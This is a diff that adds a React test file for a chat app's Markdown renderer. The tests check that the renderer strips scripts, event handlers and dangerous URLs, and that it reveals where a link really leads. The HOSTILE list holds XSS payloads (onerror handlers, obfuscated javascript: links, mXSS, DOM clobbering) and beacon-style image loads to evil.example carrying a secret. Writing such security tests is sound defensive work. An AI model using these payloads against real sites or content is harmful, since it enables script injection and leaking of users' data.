@@ -1,0 +1,103 @@
+import { MantineProvider } from '@mantine/core';
+import { ModalsProvider } from '@mantine/modals';
+import { cleanup, render, screen } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { afterEach, describe, expect, it, vi } from 'vitest';
+import { trueAddress } from '../../../src/renderer/features/conversation/ExternalLink';
+import { Markdown } from '../../../src/renderer/features/conversation/Markdown';
+import { splitOffers } from '../../../src/renderer/features/conversation/offers';
+
+afterEach(cleanup);
+
+const show = (text: string) =>
+  render(
+    <MantineProvider>
+      <ModalsProvider>
+        <div data-testid="shown">
+          <Markdown text={text} numbers={[]} onNumber={() => undefined} />
+        </div>
+      </ModalsProvider>
+    </MantineProvider>,
+  );
+
+const HOSTILE = [
+  '![" onerror=alert(1)](x)',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
+  '[x](javascript:alert(1))',
+  '[x](java&#115;cript:alert(1))',
+  '[x](java\tscript:alert(1))',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '![](https://evil.example/?secret=1)',
+  '![a][b]\n\n[b]: https://evil.example/x.png',
+  '<style>body{background:url(https://evil.example)}</style>',
+  '<link rel=prefetch href=https://evil.example>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example">',
+  '<base href=https://evil.example>',
+  '<form id=location name=cookie><input name=body></form>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '`<script>alert(1)</script>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <b onclick=alert(1)>c</b> |',
+  '[x](file:///etc/passwd) [x](smb://host/share) [x](ms-msdt:/id) [x](assay://x)',
+];
+
+describe('text of a message', () => {
+  it.each(HOSTILE)('is only read: %s', (text) => {
+    show(text);
+    const shown = screen.getByTestId('shown');
+    expect(shown.textContent).not.toBe('');
+    const active =
+      'img, script, iframe, svg:not([class*="lucide"]), style, link, meta, base, form, object, embed, math';
+    expect(shown.querySelectorAll(active)).toHaveLength(0);
+    for (const element of shown.querySelectorAll('*')) {
+      for (const { name, value } of element.attributes) {
+        expect(name).not.toMatch(/^on/);
+        expect(`${name}=${value}`).not.toMatch(/^(?:href|src|action|formaction)=/);
+      }
+    }
+  });
+
+  it('stays readable when it is deeper or longer than any text', () => {
+    for (const text of [
+      '> '.repeat(10_000),
+      '- '.repeat(5_000),
+      'x'.repeat(2_000_000),
+      '*'.repeat(20_000),
+      '['.repeat(20_000),
+    ]) {
+      const started = performance.now();
+      const { unmount } = show(text);
+      unmount();
+      expect(performance.now() - started).toBeLessThan(20_000);
+    }
+  });
+
+  it('shows where a link really leads before it opens', async () => {
+    const opened = vi.spyOn(window, 'open').mockReturnValue(null);
+    show('[https://good.example](https://good.example@evil.example/path)');
+    await userEvent.click(screen.getByRole('button', { name: 'https://good.example' }));
+    await screen.findByText('https://evil.example/path');
+    expect(opened).not.toHaveBeenCalled();
+    await userEvent.click(screen.getByRole('button', { name: 'Open' }));
+    expect(opened).toHaveBeenCalledWith('https://evil.example/path', '_blank', 'noopener,noreferrer');
+    opened.mockRestore();
+  });
+
+  it.each([
+    ['javascript:alert(1)', null],
+    ['file:///etc/passwd', null],
+    ['//evil.example', null],
+    ['https://аpple.com', 'https://xn--pple-43d.com/'],
+    ['mailto:a@b.example', 'mailto:a@b.example'],
+  ])('knows the true address of %s', (href, expected) => expect(trueAddress(href)).toBe(expected));
+});
+
+describe('offered questions', () => {
+  it('are the list that ends an answer, and nothing else', () => {
+    expect(splitOffers('No.\n\nYou can ask:\n- One\n- Two')).toEqual({ text: 'No.', offers: ['One', 'Two'] });
+    for (const text of ['You can ask:', 'You can ask:\n- One\nand more', 'Here:\n- One', ''])
+      expect(splitOffers(text)).toEqual({ text, offers: [] });
+  });
+});
